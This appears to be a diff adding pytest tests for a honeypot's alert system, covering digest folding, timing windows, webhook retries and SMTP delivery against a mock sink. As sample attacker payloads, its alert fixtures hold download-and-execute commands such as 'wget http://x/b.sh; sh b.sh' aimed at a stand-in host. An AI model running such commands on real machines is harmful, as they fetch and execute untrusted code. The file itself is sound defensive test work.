@@ -0,0 +1,96 @@
+# test_alerts.py - alert digests and delivery, against mock_alert_sink.py
+import socket, threading, time
+
+import pytest
+from werkzeug.serving import make_server
+
+import alerts, mock_alert_sink
+
+
+class ListSink:
+    name = "list"
+
+    def __init__(self):
+        self.batches = []
+
+    def send(self, digests):
+        self.batches.append(list(digests))
+
+def alert(severity="high", payload="wget http://x/a.sh", **fields):
+    return dict({"session": "s1", "ip": "203.0.113.5", "rule": "wget", "severity": severity,
+                 "payload": payload, "ts": time.time()}, **fields)
+
+def free_port():
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+@pytest.fixture
+def sink_server(monkeypatch):
+    """mock_alert_sink's webhook and SMTP stand-ins on free local ports."""
+    monkeypatch.setitem(mock_alert_sink._received, "recent", [])
+    for k in ("webhook_batches", "webhook_digests", "emails"):
+        monkeypatch.setitem(mock_alert_sink._received, k, 0)
+    http = make_server("127.0.0.1", 0, mock_alert_sink.app, threaded=True)
+    threading.Thread(target=http.serve_forever, daemon=True).start()
+    smtp_port = free_port()
+    threading.Thread(target=mock_alert_sink.run_smtp, args=(smtp_port,), daemon=True).start()
+    for _ in range(50):
+        try:
+            socket.create_connection(("127.0.0.1", smtp_port), timeout=1).close()
+            break
+        except OSError:
+            time.sleep(0.05)
+    yield f"http://127.0.0.1:{http.server_port}/alerts", smtp_port
+    http.shutdown()
+
+
+def test_repeats_fold_into_one_digest():
+    sink = ListSink()
+    d = alerts.AlertDispatcher([sink], window=60)
+    for _ in range(4):
+        assert d.submit(alert())
+    d.submit(alert("critical", "wget http://x/b.sh; sh b.sh"))
+    d.submit(alert(session="s2"))
+    assert d.flush(5)
+    digests = sorted((dg for batch in sink.batches for dg in batch), key=lambda dg: dg["session"])
+    assert [(dg["session"], dg["count"], dg["severity"]) for dg in digests] == [("s1", 5, "critical"), ("s2", 1, "high")]
+    assert digests[0]["sample"] == "wget http://x/b.sh; sh b.sh"
+    assert "x5" in alerts.describe(digests[0])
+
+def test_digest_is_sent_when_its_window_closes():
+    sink = ListSink()
+    d = alerts.AlertDispatcher([sink], window=0.2)
+    d.submit(alert())
+    deadline = time.monotonic() + 5
+    while not sink.batches and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert [dg["count"] for dg in sink.batches[0]] == [1]
+
+def test_unknown_key_field_is_rejected():
+    with pytest.raises(ValueError):
+        alerts.AlertDispatcher([ListSink()], key=("session", "port"))
+
+def test_webhook_delivery_is_retried(sink_server, monkeypatch):
+    url, _ = sink_server
+    rolls = iter([0.0, 0.99])     # the first request fails with 500, the retry succeeds
+    monkeypatch.setattr(mock_alert_sink, "FAIL_RATE", 0.5)
+    monkeypatch.setattr(mock_alert_sink, "random", type("Rolls", (), {"random": staticmethod(lambda: next(rolls, 0.99))}))
+    d = alerts.AlertDispatcher([alerts.WebhookSink(url)], window=60, backoff=0.01)
+    for _ in range(3):
+        d.submit(alert())
+    assert d.flush(10)
+    assert next(rolls, None) is None      # two requests: the failure and the retry
+    received = mock_alert_sink._received
+    assert received["webhook_batches"] == 1
+    assert [(r["count"], r["severity"]) for r in received["recent"]] == [(3, "high")]
+
+def test_smtp_delivery(sink_server):
+    _, smtp_port = sink_server
+    sinks = alerts.build_sinks(smtp=f"127.0.0.1:{smtp_port}", mail_to=["soc@example.com"])
+    d = alerts.AlertDispatcher(sinks, window=60)
+    d.submit(alert("critical"))
+    assert d.flush(10)
+    mail = mock_alert_sink._received["recent"][-1]
+    assert mail["kind"] == "email" and mail["subject"] == "[honeypot] 1 alert(s), 1 critical"
+    assert "CRITICAL wget" in mail["body"]